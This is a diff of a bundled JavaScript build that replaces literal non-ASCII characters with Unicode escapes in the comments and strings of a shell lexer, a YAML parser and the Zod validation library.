         const bp = this._buildParts;
         const bt = bp || this._buildValue;
-        // Fast path: pure literal content (no $, `, or \ — just find closing ")
+        // Fast path: pure literal content (no $, `, or \ \u2014 just find closing ")
         if (!bp) {
             let p = this.pos;
             while (p < len) {
@@ -17686,7 +16262,7 @@ class Lexer {
         }
         let wordStart = true;
         // Fast path: scan for simple cases with no nested quotes/parens/case. Nothing here
-        // opens a paren — `(` breaks to the slow path — so depth stays 1 and the first `)`
+        // opens a paren \u2014 `(` breaks to the slow path \u2014 so depth stays 1 and the first `)`
         // closes the construct.
         while (!quoteOnly && this.pos < len) {
             const c = src.charCodeAt(this.pos);
@@ -17729,7 +16305,7 @@ class Lexer {
         // Slow path: just track position (source is copied verbatim, so slice at end)
         let caseDepth = 0;
         // Parentheses opened since the innermost `case` began. A `)` only terminates a case
-        // pattern when nothing is open — otherwise it closes a pattern's leading `(`, an
+        // pattern when nothing is open \u2014 otherwise it closes a pattern's leading `(`, an
         // extglob group, or a subshell in the case body, and must rebalance `depth`.
         let caseParens = 0;
         // Word-form parens resume mid-word; grammar parens resume where `#` can open a comment.
@@ -17906,7 +16482,7 @@ class Lexer {
                 }
                 wordStartAfterParen.push(!wordParen);
                 wordStart = true;
-                // (( opens arithmetic — suppress heredoc detection until the parens
+                // (( opens arithmetic \u2014 suppress heredoc detection until the parens
                 // rebalance so shift operators inside aren't mistaken for heredocs
                 if (!script && arithBase < 0 && this.pos + 1 < len && src.charCodeAt(this.pos + 1) === CH_LPAREN) {
                     arithBase = depth;
@@ -18027,7 +16603,7 @@ class Lexer {
                 wordStart = false;
             }
             else if (ch === CH_LT && arithBase < 0 && this.pos + 1 < len && src.charCodeAt(this.pos + 1) === CH_LT) {
-                // << is a heredoc operator even in case-pattern position — unquoted <<
+                // << is a heredoc operator even in case-pattern position \u2014 unquoted <<
                 // inside a pattern is a bash syntax error, so no caseDepth gate here
                 if (this.pos + 2 < len && src.charCodeAt(this.pos + 2) === CH_LT) {
                     this.pos += 3; // <<< herestring
@@ -18058,7 +16634,7 @@ class Lexer {
                 wordStart = true;
             }
             else if (ch === CH_HASH && arithBase < 0 && !arithExtent && wordStart) {
-                // Word-boundary # opens a comment — opaque up to (not including) the
+                // Word-boundary # opens a comment \u2014 opaque up to (not including) the
                 // newline, so quotes and << inside it stay inert
                 while (this.pos < len && src.charCodeAt(this.pos) !== CH_NL)
                     this.pos++;
@@ -18681,7 +17257,7 @@ function parseArithmeticExpression(src, offset = 0, collector, nestingDepth = 0)
             return makeWord(start, pos, true);
         }
         if (pos === start) {
-            // Unknown character — advance to prevent infinite loop
+            // Unknown character \u2014 advance to prevent infinite loop
             pos++;
             return makeWord(start, pos);
         }
@@ -18721,7 +17297,7 @@ function arrayPartsResolver(context) {
 }
 /**
  * Compute the structural parts of a word by re-scanning the source.
- * This is the "cold path" — only called when consumers actually need parts.
+ * This is the "cold path" \u2014 only called when consumers actually need parts.
  *
  * Returns undefined for simple words (no quotes, expansions, or special structure).
  */
@@ -21781,7 +20357,7 @@ function getLine(buffer, lineStart, lineEnd, position, maxLineLength) {
 		lineEnd = position + maxHalfLength - tail.length;
 	}
 	return {
-		str: head + buffer.slice(lineStart, lineEnd).replace(/\t/g, "→") + tail,
+		str: head + buffer.slice(lineStart, lineEnd).replace(/\t/g, "\u2192") + tail,
 		pos: position - lineStart + head.length
 	};
 }
@@ -21938,7 +20514,7 @@ function simpleEscapeSequence(c) {
 		case 34: return "\"";
 		case 47: return "/";
 		case 92: return "\\";
-		case 78: return "";
+		case 78: return "\u0085";
 		case 95: return "\xA0";
 		case 76: return "\u2028";
 		case 80: return "\u2029";
@@ -23836,7 +22412,7 @@ function escapeCharacter(character) {
 		case "\x1B": return "\\e";
 		case "\"": return "\\\"";
 		case "\\": return "\\\\";
-		case "": return "\\N";
+		case "\u0085": return "\\N";
 		case "\xA0": return "\\_";
 		case "\u2028": return "\\L";
 		case "\u2029": return "\\P";
@@ -24343,7 +22919,7 @@ var CHOMPING_KEEP = CHOMPING_MODE.KEEP;
 
 
 /* Prototypes that already carry the lazy helper methods. Seeded with the
- * intrinsics so that `init` on a foreign object — it accepts any object —
+ * intrinsics so that `init` on a foreign object \u2014 it accepts any object \u2014
  * can never install an accessor onto a prototype we do not own. */
 const _installedErrorProtos = /* @__PURE__ */ new WeakSet([Object.prototype, Error.prototype]);
 /* Helper methods live as non-enumerable lazy getters on the shared
@@ -24578,7 +23154,7 @@ function isRecursive(inst, stack, resolve) {
         default: {
             // a new built-in kind becomes a compile error here
             kind;
-            // a user-defined kind can still hold children, and only its author knows where, so fall back to scanning the def — skipping accessors, since reading one can run user code
+            // a user-defined kind can still hold children, and only its author knows where, so fall back to scanning the def \u2014 skipping accessors, since reading one can run user code
             for (const key in def) {
                 const desc = Object.getOwnPropertyDescriptor(def, key);
                 if (!desc || desc.get)
@@ -25326,7 +23902,7 @@ function isValidCreditCard(input) {
     return isLuhnAlgo(input.replace(CC_SANITIZE, ""));
 }
 const $ZodCreditCard = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCreditCard", (inst, def) => {
-    // Shape only — the Luhn check below is not expressible as a pattern, so consumers of `pattern` (JSON Schema, template literals) get the length and separator rules alone.
+    // Shape only \u2014 the Luhn check below is not expressible as a pattern, so consumers of `pattern` (JSON Schema, template literals) get the length and separator rules alone.
     def.pattern ?? (def.pattern = regexes.creditCard);
     $ZodStringFormat.init(inst, def);
     inst._zod.check = (payload) => {
@@ -25362,7 +23938,7 @@ function isValidIBAN(input) {
     return isIso7064Mod97(input);
 }
 const $ZodIBAN = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodIBAN", (inst, def) => {
-    // shape only — checksum is not expressible as a pattern
+    // shape only \u2014 checksum is not expressible as a pattern
     def.pattern ?? (def.pattern = regexes.iban);
     $ZodStringFormat.init(inst, def);
     inst._zod.check = (payload) => {
@@ -25692,7 +24268,7 @@ const $ZodArray = /*@__PURE__*/ core_core/* $constructor */.xI("$ZodArray", (ins
 function handlePropertyResult(result, final, key, input, optin, optout) {
     const isPresent = key in input;
     const isOptionalOut = optout === "optional";
-    // The middle rung means "absence permitted, nothing supplied in its place", so an absent key contributes nothing — whatever the schema made of `undefined` is invented, not substituted. Only `optional` reaches this with a value: `defaulted` substitutes, and a schema that isn't optional-out has to keep the key.
+    // The middle rung means "absence permitted, nothing supplied in its place", so an absent key contributes nothing \u2014 whatever the schema made of `undefined` is invented, not substituted. Only `optional` reaches this with a value: `defaulted` substitutes, and a schema that isn't optional-out has to keep the key.
     if (!isPresent && isOptionalOut && optin === "optional") {
         return;
     }
@@ -25927,7 +24503,7 @@ const $ZodObjectJIT = /*@__PURE__*/ core_core/* $constructor */.xI("$ZodObjectJI
             const isOptionalOut = schema?._zod?.optout === "optional";
             doc.write(`const ${id} = ${parseStr(k)};`);
             if (isOptionalIn && isOptionalOut) {
-                // For optional-in/out schemas, ignore errors on absent keys — and, like the interpreted path, drop the value produced alongside them. The middle rung goes further: it permits absence without supplying anything in its place, so an absent key contributes nothing at all.
+                // For optional-in/out schemas, ignore errors on absent keys \u2014 and, like the interpreted path, drop the value produced alongside them. The middle rung goes further: it permits absence without supplying anything in its place, so an absent key contributes nothing at all.
                 const assign = optin === "optional" ? `${id}_present` : `${id}.value !== undefined || ${id}_present`;
                 doc.write(`
         const ${id}_present = ${isPresent};
@@ -26212,7 +24788,7 @@ core_core/* $constructor */.xI("$ZodDiscriminatedUnion", (inst, def) => {
             propValues[zod.def.discriminator]?.delete(undefined);
         return propValues;
     });
-    // Checked now rather than in the lookup map below, so an option that lacks the discriminator fails at the `discriminatedUnion` call instead of on the first object parsed. Options whose shape cannot be enumerated without resolving it — pipes and lazies — are left to the map.
+    // Checked now rather than in the lookup map below, so an option that lacks the discriminator fails at the `discriminatedUnion` call instead of on the first object parsed. Options whose shape cannot be enumerated without resolving it \u2014 pipes and lazies \u2014 are left to the map.
     def.options.forEach((option, i) => {
         const propShape = core_util/* rawShape */.MO(option._zod.def);
         if (propShape && !Object.prototype.hasOwnProperty.call(propShape, def.discriminator)) {
@@ -27581,7 +26157,7 @@ function to_json_schema_extractDefs(ctx, schema
     const root = ctx.seen.get(schema);
     if (!root)
         throw new Error("Unprocessed schema. This is a bug in Zod.");
-    // With `external` set, every registered schema resolves through the external branch of `makeURI`, so the root branch below produces the same ref the external branch would — this pass is identical whichever schema it is called with, and only needs to run once.
+    // With `external` set, every registered schema resolves through the external branch of `makeURI`, so the root branch below produces the same ref the external branch would \u2014 this pass is identical whichever schema it is called with, and only needs to run once.
     if (ctx.external && ctx.sharedDefsExtractedFor === ctx.external)
         return;
     // Track ids to detect duplicates across different schemas
@@ -27692,7 +26268,7 @@ function to_json_schema_extractDefs(ctx, schema
     if (ctx.external)
         ctx.sharedDefsExtractedFor = ctx.external;
 }
-/** Rewrites `anyOf: [{type: "a"}, {type: "b"}]` to `type: ["a", "b"]`, which every JSON Schema draft treats as equivalent and most consumers render far better for the nullable case. Only branches that are a bare type assertion qualify — anything carrying a constraint, `$ref`, `const` or metadata is left alone. Runs after `flattenRef`, so a branch an override decorated or `$defs` extraction turned into a `$ref` is no longer bare and correctly stays in `anyOf`. `oneOf` is excluded: `integer` and `number` overlap, so "exactly one" and "at least one" are not the same there. OpenAPI 3.0 is excluded: its `type` must be a single string. */
+/** Rewrites `anyOf: [{type: "a"}, {type: "b"}]` to `type: ["a", "b"]`, which every JSON Schema draft treats as equivalent and most consumers render far better for the nullable case. Only branches that are a bare type assertion qualify \u2014 anything carrying a constraint, `$ref`, `const` or metadata is left alone. Runs after `flattenRef`, so a branch an override decorated or `$defs` extraction turned into a `$ref` is no longer bare and correctly stays in `anyOf`. `oneOf` is excluded: `integer` and `number` overlap, so "exactly one" and "at least one" are not the same there. OpenAPI 3.0 is excluded: its `type` must be a single string. */
 function compactTypeUnion(schema) {
     const options = schema.anyOf;
     if (!Array.isArray(options) || options.length === 0 || schema.type !== undefined)
@@ -27701,7 +26277,7 @@ function compactTypeUnion(schema) {
     for (const option of options) {
         if (!option || typeof option !== "object")
             return;
-        // A branch that is itself a compactible union folds into this one — nested `anyOf` and a flat `type` array say the same thing. Compacting it first also makes the result independent of the order this pass walks the seen map in.
+        // A branch that is itself a compactible union folds into this one \u2014 nested `anyOf` and a flat `type` array say the same thing. Compacting it first also makes the result independent of the order this pass walks the seen map in.
         compactTypeUnion(option);
         const keys = Object.keys(option);
         if (keys.length !== 1 || keys[0] !== "type")
@@ -27718,8 +26294,8 @@ function compactTypeUnion(schema) {
     // A `type` array must be non-empty and unique (metaschema); a single member is spelled as a bare string.
     schema.type = types.length === 1 ? types[0] : types;
 }
-/** Keywords `foldIntersection` knows how to combine. Anything else — `$ref`, `patternProperties`,
- * an annotation like `description` — makes a member unfoldable, so a constraint this does not
+/** Keywords `foldIntersection` knows how to combine. Anything else \u2014 `$ref`, `patternProperties`,
+ * an annotation like `description` \u2014 makes a member unfoldable, so a constraint this does not
  * understand leaves the `allOf` alone instead of being silently dropped or misattributed. */
 const FOLDABLE_KEYS = new Set(["type", "properties", "required", "additionalProperties"]);
 const UNION_KEYS = ["oneOf", "anyOf"];
@@ -27790,8 +26366,8 @@ function foldObjects(members) {
 }
 /** `additionalProperties` in an `allOf` member sees only that member's own `properties`, so two
  * closed object members reject each other's keys and the schema validates nothing. Zod's parser
- * pools the key sets instead — `handleIntersectionResults` reports a key as unrecognized only when
- * *every* side rejects it — so the emitted schema has to pool them too, and folding the members
+ * pools the key sets instead \u2014 `handleIntersectionResults` reports a key as unrecognized only when
+ * *every* side rejects it \u2014 so the emitted schema has to pool them too, and folding the members
  * into one object is the encoding that says so on every target.
  *
  * This runs from `finalize`, after `extractDefs`, which is what keeps it clear of the `$ref`
@@ -27917,7 +26493,7 @@ function to_json_schema_finalize(ctx, schema) {
         }
         for (const rewrite of ctx.deferred)
             rewrite();
-        // After flattening, every member that was extracted is a `$ref`, so the fold sees the final shape. A schema that inherits an intersection — through `z.lazy`, or any `ref` chain — holds the same `allOf` array, so fold by array identity to catch every copy.
+        // After flattening, every member that was extracted is a `$ref`, so the fold sees the final shape. A schema that inherits an intersection \u2014 through `z.lazy`, or any `ref` chain \u2014 holds the same `allOf` array, so fold by array identity to catch every copy.
         if (ctx.intersections.length) {
             const carriers = new Map();
             for (const seen of ctx.seen.values()) {
@@ -27962,7 +26538,7 @@ function to_json_schema_finalize(ctx, schema) {
     }
     // when the root was extracted into $defs, `root.schema` is the `$ref` wrapper and `root.def` is the body that now lives under $defs
     assignProps(result, root.defId ? root.schema : (root.def ?? root.schema));
-    // The `id` in `.meta()` is a Zod-specific registration tag used to extract schemas into $defs — it is not user-facing JSON Schema metadata. Strip it from the output body where it would otherwise leak. The id is preserved implicitly via the $defs key (and via $ref paths).
+    // The `id` in `.meta()` is a Zod-specific registration tag used to extract schemas into $defs \u2014 it is not user-facing JSON Schema metadata. Strip it from the output body where it would otherwise leak. The id is preserved implicitly via the $defs key (and via $ref paths).
     const rootMetaId = ctx.metadataRegistry.get(schema)?.id;
     if (rootMetaId !== undefined && result.id === rootMetaId)
         delete result.id;
@@ -28627,11 +27203,11 @@ const tupleProcessor = (schema, ctx, _json, params) => {
  *
  * A numeric bound cannot apply to a property name, so `minimum` and its siblings are dropped rather
  * than carried over: keeping them beside `type: "string"` reproduces the match-nothing schema this
- * exists to fix. A key that carries one therefore emits wider than the record parses — `z.record(z.number().min(5), V)`
- * accepts `"3"` — which is the deliberate trade, since throwing on it would reject an ordinary schema
+ * exists to fix. A key that carries one therefore emits wider than the record parses \u2014 `z.record(z.number().min(5), V)`
+ * accepts `"3"` \u2014 which is the deliberate trade, since throwing on it would reject an ordinary schema
  * outright. */
 function stringifyKeyNames(bySchema, json, visited) {
-    // an extracted key that rewrites cannot go on sharing its definition — the string form a key position needs is not the number form every other reference wants — so it inlines. One that does not rewrite keeps the `$ref`.
+    // an extracted key that rewrites cannot go on sharing its definition \u2014 the string form a key position needs is not the number form every other reference wants \u2014 so it inlines. One that does not rewrite keeps the `$ref`.
     if (json.$ref) {
         // a recursive key holds its own reference inside its definition, so a node already on the path is left alone rather than resolved again
         if (visited.has(json))
@@ -29271,7 +27847,7 @@ const parse_safeDecodeAsync = /* @__PURE__ */ _safeDecodeAsync(classic_errors/* 
 
 
 
-// Register English as the default locale on first ZodType construction. Hooked into the `ZodType` `$constructor` (rather than a top-level `config(en())` in `external.ts`) so bundlers honoring `sideEffects: false` can't tree-shake it out — see #5953, #5725. An explicit `z.config(z.locales.xx())` call wins regardless of order, since this only sets the default when none is present.
+// Register English as the default locale on first ZodType construction. Hooked into the `ZodType` `$constructor` (rather than a top-level `config(en())` in `external.ts`) so bundlers honoring `sideEffects: false` can't tree-shake it out \u2014 see #5953, #5725. An explicit `z.config(z.locales.xx())` call wins regardless of order, since this only sets the default when none is present.
 function _ensureDefaultLocale() {
     if (!core_core/* globalConfig */.cr.localeError)
         core_core/* config */.$W(en());
@@ -30286,7 +28862,7 @@ const ZodRecord = /*@__PURE__*/ core_core/* $constructor */.xI("ZodRecord", (ins
     inst.valueType = def.valueType;
 });
 function record(keyType, valueType, params) {
-    // v3-compat: z.record(valueType, params?) — defaults keyType to z.string()
+    // v3-compat: z.record(valueType, params?) \u2014 defaults keyType to z.string()
     if (!valueType || !valueType._zod) {
         return new ZodRecord({
             type: "record",
@@ -32071,7 +30647,7 @@ const $ZodCheckMultipleOf =
         if (typeof payload.value !== typeof def.value)
             throw new Error("Cannot mix number and bigint in multiple_of check.");
         const isMultiple = typeof payload.value === "bigint"
-            ? // `value % 0n` throws, and nothing is a multiple of zero — the number branch already fails this way via NaN
+            ? // `value % 0n` throws, and nothing is a multiple of zero \u2014 the number branch already fails this way via NaN
                 def.value !== BigInt(0) && payload.value % def.value === BigInt(0)
             : _util_js__WEBPACK_IMPORTED_MODULE_1__/* .floatSafeRemainder */ .LG(payload.value, def.value) === 0;
         if (isMultiple)
@@ -32322,7 +30898,7 @@ const $ZodCheckLengthEquals = /*@__PURE__*/ _core_js__WEBPACK_IMPORTED_MODULE_0_
     inst._zod.check = (payload) => {
         const input = payload.value;
         const units = input.length;
-        // A code point is one or two UTF-16 units, so outside `[length, length * 2]` units the target is missed either way — and missed in the same direction in both measures.
+        // A code point is one or two UTF-16 units, so outside `[length, length * 2]` units the target is missed either way \u2014 and missed in the same direction in both measures.
         const length = typeof input === "string" && units >= def.length && units <= def.length * 2
             ? _util_js__WEBPACK_IMPORTED_MODULE_1__/* .codePointLength */ .O7(input)
             : units;
@@ -32572,7 +31148,7 @@ function newError(Definition) {
 function $constructor(name, initializer, 
 /** This trait's members, installed once on every prototype that composes it. They cannot be declared in the initializer above: that runs per instance, and the prototype is shared. */
 proto, params) {
-    // Prototype for this constructor's `_zod` internals. Lazily-derived fields (`values`, `pattern`, `optin`, …) install here once rather than as an accessor on every instance.
+    // Prototype for this constructor's `_zod` internals. Lazily-derived fields (`values`, `pattern`, `optin`, \u2026) install here once rather than as an accessor on every instance.
     const zodProto = {};
     // Assigning the fields in the constructor body is what gives instances in-object slots; building the object literally and reparenting it costs a second allocation and a generic property copy.
     function Internals(def) {
@@ -32601,7 +31177,7 @@ proto, params) {
         inst._zod.traits.add(name);
         initializer(inst, def);
         if (initialized) {
-            // `super(def)` from a user subclass gives `this` a prototype the subclass owns, and installing there would overwrite whatever the subclass declared. `constr` built the instance, so its prototype is the one below the subclass's that should carry the members. A receiver whose chain never reaches that prototype installs on its own, which for a plain object handed straight to `init` means `Object.prototype` — unchanged from before.
+            // `super(def)` from a user subclass gives `this` a prototype the subclass owns, and installing there would overwrite whatever the subclass declared. `constr` built the instance, so its prototype is the one below the subclass's that should carry the members. A receiver whose chain never reaches that prototype installs on its own, which for a plain object handed straight to `init` means `Object.prototype` \u2014 unchanged from before.
             const own = Object.getPrototypeOf(inst);
             const ctorProto = inst._zod.constr.prototype;
             let up = own;
@@ -32717,7 +31293,7 @@ const _messageDesc = {
 };
 const _issuesDesc = { value: undefined, enumerable: false };
 /* Prototypes that already carry the lazy `toString`. Seeded with the
- * intrinsics so that `init` on a foreign object — it accepts any object —
+ * intrinsics so that `init` on a foreign object \u2014 it accepts any object \u2014
  * can never install an accessor onto a prototype we do not own. */
 const _installedToString = /* @__PURE__ */ new WeakSet([Object.prototype, Error.prototype]);
 const initializer = (inst, def) => {
@@ -32924,9 +31500,9 @@ function treeifyError(error, mapper = (issue) => issue.message) {
  *
  * ```
  * username
- *   ✖ Expected number, received string at "username
+ *   \u2716 Expected number, received string at "username
  * favoriteNumbers[0]
- *   ✖ Invalid input: expected number
+ *   \u2716 Invalid input: expected number
  * ```
  */
 function toDotPath(_path) {
@@ -32953,9 +31529,9 @@ function prettifyError(error) {
     const issues = [...error.issues].sort((a, b) => (a.path ?? []).length - (b.path ?? []).length);
     // Process each issue
     for (const issue of issues) {
-        lines.push(`✖ ${issue.message}`);
+        lines.push(`\u2716 ${issue.message}`);
         if (issue.path?.length)
-            lines.push(`  → at ${toDotPath(issue.path)}`);
+            lines.push(`  \u2192 at ${toDotPath(issue.path)}`);
     }
     // Convert Map to formatted string
     return lines.join("\n");
@@ -33044,7 +31620,7 @@ const unicodeEmail = /^[^\s@"]{1,64}@[^\s@]{1,255}$/u;
 const idnEmail = (/* unused pure expression or super */ null && (unicodeEmail));
 const browserEmail = /^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/;
 // from https://thekevinscott.com/emojis-in-javascript/#writing-a-regular-expression
-// Single character class, not an alternation: the two properties overlap (U+1F9B0-U+1F9B3), so `(A|B)+` backtracks exponentially on a failed match. The leading lookahead then demands one anchor — a pictograph, a regional indicator, or the enclosing keycap — because `\p{Emoji_Component}` on its own covers ASCII digits, `#`, `*`, ZWJ, variation selectors and skin tone modifiers, none of which is an emoji without a base.
+// Single character class, not an alternation: the two properties overlap (U+1F9B0-U+1F9B3), so `(A|B)+` backtracks exponentially on a failed match. The leading lookahead then demands one anchor \u2014 a pictograph, a regional indicator, or the enclosing keycap \u2014 because `\p{Emoji_Component}` on its own covers ASCII digits, `#`, `*`, ZWJ, variation selectors and skin tone modifiers, none of which is an emoji without a base.
 const _emoji = `^(?=[\\s\\S]*[\\p{Extended_Pictographic}\\p{Regional_Indicator}\\u20E3])[\\p{Extended_Pictographic}\\p{Emoji_Component}]+$`;
 function emoji() {
     return new RegExp(_emoji, "u");
@@ -33067,7 +31643,7 @@ const domain = /^(?=.{1,253}$)([a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\.)+
 const httpProtocol = /^https?$/;
 // https://blog.stevenlevithan.com/archives/validate-phone-number#r4-3 (regex sans spaces) E.164: leading digit must be 1-9; total digits (excluding '+') between 7-15
 const e164 = /^\+[1-9]\d{6,14}$/;
-// Credit card shape: 12–19 digits, optionally separated by single spaces or single hyphens. ISO/IEC 7812 caps the PAN at 19 digits; 12 is the shortest issued length (Maestro).
+// Credit card shape: 12\u201319 digits, optionally separated by single spaces or single hyphens. ISO/IEC 7812 caps the PAN at 19 digits; 12 is the shortest issued length (Maestro).
 const creditCard = /^\d(?:[ -]?\d){11,18}$/;
 // ISO 4217 alpha codes from the SIX list, regenerated by scripts/update-iso-4217.ts
 const currencyCode = /^(?:AED|AFN|ALL|AMD|AOA|ARS|AUD|AWG|AZN|BAM|BBD|BDT|BHD|BIF|BMD|BND|BOB|BOV|BRL|BSD|BTN|BWP|BYN|BZD|CAD|CDF|CHE|CHF|CHW|CLF|CLP|CNY|COP|COU|CRC|CUP|CVE|CZK|DJF|DKK|DOP|DZD|EGP|ERN|ETB|EUR|FJD|FKP|GBP|GEL|GHS|GIP|GMD|GNF|GTQ|GYD|HKD|HNL|HTG|HUF|IDR|ILS|INR|IQD|IRR|ISK|JMD|JOD|JPY|KES|KGS|KHR|KMF|KPW|KRW|KWD|KYD|KZT|LAK|LBP|LKR|LRD|LSL|LYD|MAD|MDL|MGA|MKD|MMK|MNT|MOP|MRU|MUR|MVR|MWK|MXN|MXV|MYR|MZN|NAD|NGN|NIO|NOK|NPR|NZD|OMR|PAB|PEN|PGK|PHP|PKR|PLN|PYG|QAR|RON|RSD|RUB|RWF|SAR|SBD|SCR|SDG|SEK|SGD|SHP|SLE|SOS|SRD|SSP|STN|SVC|SYP|SZL|THB|TJS|TMT|TND|TOP|TRY|TTD|TWD|TZS|UAH|UGX|USD|USN|UYI|UYU|UYW|UZS|VED|VES|VND|VUV|WST|XAD|XAF|XAG|XAU|XBA|XBB|XBC|XBD|XCD|XCG|XDR|XOF|XPD|XPF|XPT|XSU|XTS|XUA|XXX|YER|ZAR|ZMW|ZWG)$/;
@@ -33406,7 +31982,7 @@ function deferProp(target, key, getter) {
         configurable: true,
     });
 }
-// Writes a settled key. A plain assignment is much cheaper than `defineProperty` and produces the same descriptor, but it runs whatever setter already answers to the key — an accessor this shape deferred, or an inherited one, which `__proto__` has on every object and prototype pollution can add for any name.
+// Writes a settled key. A plain assignment is much cheaper than `defineProperty` and produces the same descriptor, but it runs whatever setter already answers to the key \u2014 an accessor this shape deferred, or an inherited one, which `__proto__` has on every object and prototype pollution can add for any name.
 function putProp(target, key, value) {
     if (key in target)
         assignProp(target, key, value);
@@ -33830,7 +32406,7 @@ function prefixIssues(path, issues) {
 function unwrapMessage(message) {
     return typeof message === "string" ? message : message?.message;
 }
-/* A check holds no link back to the schema it is attached to — the same check instance is shared by every clone of that schema — so the owner is stamped onto the issues a check just raised, at the only point where both are in scope. Runs on the failure path only; `start` is the issue count from before the check ran. */
+/* A check holds no link back to the schema it is attached to \u2014 the same check instance is shared by every clone of that schema \u2014 so the owner is stamped onto the issues a check just raised, at the only point where both are in scope. Runs on the failure path only; `start` is the issue count from before the check ran. */
 /** The leading size checks of `defChecks` that set an upper bound, each paired with it. */
 function sizeCaps(defChecks) {
     const caps = [];
@@ -34004,11 +32580,11 @@ class Class {
 }
 //////////    PROTOTYPE INSTALLERS     //////////
 //
-// Members live on the prototype and materialize per instance on first read, which keeps own-property count under the step where V8 stops using inline slots. Changing anything here means re-measuring runtime, memory and bundle size together — see "The three axes" in AGENTS.md.
+// Members live on the prototype and materialize per instance on first read, which keeps own-property count under the step where V8 stops using inline slots. Changing anything here means re-measuring runtime, memory and bundle size together \u2014 see "The three axes" in AGENTS.md.
 /**
  * Installs a trait's members on its prototype. Each value builds that member for the instance on first read; the built value shadows the accessor as an own property, so a detached `const { parse } = schema` keeps working.
  *
- * Call this from a `proto` initializer, which runs once per prototype — never per instance.
+ * Call this from a `proto` initializer, which runs once per prototype \u2014 never per instance.
  */
 function members(proto, table) {
     for (const key in table) {
@@ -34144,7 +32720,7 @@ function installLazyProp(inst, key, make, enumerable) {
         },
     });
 }
-/** Marks the thunk `_catch` synthesises for a constant catch value. `Function.length` cannot tell that thunk from a user callback — rest and defaulted parameters both report arity 0 — and a user callback reads `ctx.error`, whose issues only finalize correctly against the caller's per-parse error map. Provenance can say what arity cannot. A plain string key rather than `Symbol.for`, whose call at module scope no bundler can prove pure — the same shape that anchored `urlCanParse` into every build. */
+/** Marks the thunk `_catch` synthesises for a constant catch value. `Function.length` cannot tell that thunk from a user callback \u2014 rest and defaulted parameters both report arity 0 \u2014 and a user callback reads `ctx.error`, whose issues only finalize correctly against the caller's per-parse error map. Provenance can say what arity cannot. A plain string key rather than `Symbol.for`, whose call at module scope no bundler can prove pure \u2014 the same shape that anchored `urlCanParse` into every build. */
 const CONSTANT_CATCH = "~constantCatch";
 /** Wraps a constant catch value in a thunk tagged with {@link CONSTANT_CATCH}. */
 function constantCatch(value) {
